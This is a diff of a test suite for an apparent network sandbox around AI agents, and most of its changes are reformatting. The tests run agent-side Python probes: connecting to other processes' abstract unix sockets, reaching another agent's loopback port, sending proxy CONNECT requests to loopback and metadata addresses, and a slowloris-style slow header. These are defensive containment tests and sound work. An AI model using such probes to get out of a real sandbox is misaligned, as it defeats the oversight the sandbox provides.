-    const r = agentPy(`import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect('\\0${name}'); print('GOT', s.recv(100).decode())\nexcept OSError as e: print('refused', type(e).__name__)`);
+    const r = agentPy(
+      `import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect('\\0${name}'); print('GOT', s.recv(100).decode())\nexcept OSError as e: print('refused', type(e).__name__)`,
+    );
     await svc.stop();
     assert.doesNotMatch(r.stdout, /GOT/, r.stdout);
     assert.match(r.stdout, /refused PermissionError/, `refused by the run's Landlock scope\n${r.stdout}`);
   });
 
-  test('allowlist: ordinary networking still works under the run\'s socket filter (TCP, UDP, non-blocking sockets, unix sockets, abstract ones of its own, ip route over netlink)', () => {
+  test("allowlist: ordinary networking still works under the run's socket filter (TCP, UDP, non-blocking sockets, unix sockets, abstract ones of its own, ip route over netlink)", () => {
     setPolicy('allowlist', '--allow', `${OUTSIDE}/32`);
     const r = agentPy(
       [
@@ -415,7 +580,11 @@ for i in range(100):
       ].join('\n'),
     );
     assert.equal(r.status, 0, `${r.stdout}\n${r.stderr}`);
-    assert.deepEqual(r.stdout.trim().split('\n'), ['tcp world', 'udp echo ordinary', 'socketpair pair', 'abstract own', 'route True', 'route6 0'], r.stderr);
+    assert.deepEqual(
+      r.stdout.trim().split('\n'),
+      ['tcp world', 'udp echo ordinary', 'socketpair pair', 'abstract own', 'route True', 'route6 0'],
+      r.stderr,
+    );
   });
 
   test('two agents: one allowed a loopback port reaches another agent listening there, whose policy lets nothing in', async () => {
@@ -424,11 +593,25 @@ for i in range(100):
     setPolicy('deny', '--port', String(port));
     const setB = human.au(['net', 'set', '-a', b, 'deny']);
     assert.equal(setB.status, 0, setB.stderr);
-    const listener = bgAgent(`import socket\nl = socket.socket()\nl.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nl.bind(('127.0.0.1', ${port}))\nl.listen(4)\nl.settimeout(8)\nprint('ready')\ntry:\n  c, a = l.accept(); c.settimeout(3)\n  print('B GOT', c.recv(100).decode()); c.sendall(b'from-B')\nexcept OSError as e: print('nothing', type(e).__name__)`, b);
+    const listener = bgAgent(
+      `import socket\nl = socket.socket()\nl.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nl.bind(('127.0.0.1', ${port}))\nl.listen(4)\nl.settimeout(8)\nprint('ready')\ntry:\n  c, a = l.accept(); c.settimeout(3)\n  print('B GOT', c.recv(100).decode()); c.sendall(b'from-B')\nexcept OSError as e: print('nothing', type(e).__name__)`,
+      b,
+    );
     await until(() => listener.output().includes('ready'));
     // The other user's try runs while A's does (both may wait out a dropped SYN).
-    const otherTry = background(['runuser', '-u', other.name, '--', 'python3', '-u', '-c', `import socket\ntry:\n  socket.create_connection(('127.0.0.1', ${port}), timeout=2); print('connected')\nexcept OSError as e: print(type(e).__name__)`]);
-    const r = agentPy(`import socket\ntry:\n  s = socket.create_connection(('127.0.0.1', ${port}), timeout=3); s.sendall(b'from-A'); print('A GOT', s.recv(100).decode())\nexcept OSError as e: print('refused', type(e).__name__)`);
+    const otherTry = background([
+      'runuser',
+      '-u',
+      other.name,
+      '--',
+      'python3',
+      '-u',
+      '-c',
+      `import socket\ntry:\n  socket.create_connection(('127.0.0.1', ${port}), timeout=2); print('connected')\nexcept OSError as e: print(type(e).__name__)`,
+    ]);
+    const r = agentPy(
+      `import socket\ntry:\n  s = socket.create_connection(('127.0.0.1', ${port}), timeout=3); s.sendall(b'from-A'); print('A GOT', s.recv(100).decode())\nexcept OSError as e: print('refused', type(e).__name__)`,
+    );
     // A's try is over (its connect or its read timed out): whatever B accepted, it has received and
     // printed by now; a second for the line to come through, rather than B's own 8 s of waiting.
     await until(() => /B GOT|nothing/.test(listener.output()), 1000);
@@ -436,7 +619,11 @@ for i in range(100):
     const fromOther = (await otherTry.stop()).trim();
     const out = await listener.stop();
     assert.notEqual(fromOther, 'connected', 'another local user is kept out of B');
-    assert.deepEqual({ bGotData: out.includes('B GOT from-A'), aGotReply: r.stdout.includes('A GOT from-B') }, { bGotData: false, aGotReply: false }, out + r.stdout);
+    assert.deepEqual(
+      { bGotData: out.includes('B GOT from-A'), aGotReply: r.stdout.includes('A GOT from-B') },
+      { bGotData: false, aGotReply: false },
+      out + r.stdout,
+    );
   });
 
   const rawProxy = (requests: readonly string[]): string => `import json, os, socket
@@ -478,9 +665,14 @@ for req in json.loads(${JSON.stringify(JSON.stringify(requests))}):
     ];
     const r = agentPy(rawProxy(requests));
     assert.equal(r.status, 0, r.stderr);
-    const answers = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as string);
+    const answers = r.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as string);
     assert.equal(answers.length, requests.length, r.stdout);
-    answers.forEach((a, i) => assert.doesNotMatch(a, / 200 /, `request ${i}: ${JSON.stringify(requests[i]!.slice(0, 80))} -> ${a.slice(0, 200)}`));
+    answers.forEach((a, i) =>
+      assert.doesNotMatch(a, / 200 /, `request ${i}: ${JSON.stringify(requests[i]!.slice(0, 80))} -> ${a.slice(0, 200)}`),
+    );
   });
 
   test('domains proxy: a head sent a byte at a time (slowloris) is cut off by the head timeout', () => {
@@ -518,11 +710,14 @@ print(int(time.time() - start), got.split(b'\\r\\n')[0].decode() or 'closed')`);
     const requests = [LO, `${LO}.`, V6LO, MAPPED, `${MAPPED}.`, META, LO.toUpperCase()].map((n) => `CONNECT ${n}:80 HTTP/1.1\r\n\r\n`);
     const r = agentPy(rawProxy(requests));
     assert.equal(r.status, 0, r.stderr);
-    const answers = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as string);
+    const answers = r.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as string);
     answers.forEach((a, i) => assert.match(a, /^HTTP\/1\.1 403 /, `${requests[i]} -> ${a.slice(0, 120)}`));
   });
 
-  test('domains proxy: a listed name resolving to one of the machine\'s own non-loopback addresses reaches a local service as the human', () => {
+  test("domains proxy: a listed name resolving to one of the machine's own non-loopback addresses reaches a local service as the human", () => {
     setPolicy('domains', '--domain', SELF);
     const r = agentPy(rawProxy([`CONNECT ${SELF}:80 HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n`]));
     assert.equal(r.status, 0, r.stderr);
